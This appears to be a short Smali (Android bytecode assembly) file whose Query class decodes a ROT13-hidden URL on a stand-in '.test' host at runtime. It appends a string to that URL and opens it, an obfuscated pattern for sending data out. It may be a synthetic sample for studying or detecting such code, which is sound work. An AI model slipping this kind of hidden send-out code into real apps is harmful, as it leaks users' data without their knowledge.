# Appends the value of a parameter to an address.
.class public Lrotated/Query;
.super Ljava/lang/Object;

.field private base:Ljava/lang/String;

.method public constructor <init>()V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    const-string v0, "uggcf://ghearq.fubc.grfg/ybt?c="
    invoke-static {v0}, Lrotated/Letters;->turn(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    iput-object v0, p0, Lrotated/Query;->base:Ljava/lang/String;
    return-void
.end method

.method public send(Ljava/lang/String;)V
    .registers 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    iget-object v1, p0, Lrotated/Query;->base:Ljava/lang/String;
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/net/URL;
    invoke-direct {v1, v0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
    return-void
.end method

.method public static go()V
    .registers 2
    new-instance v0, Lrotated/Query;
    invoke-direct {v0}, Lrotated/Query;-><init>()V
    const-string v1, "data"
    invoke-virtual {v0, v1}, Lrotated/Query;->send(Ljava/lang/String;)V
    return-void
.end method
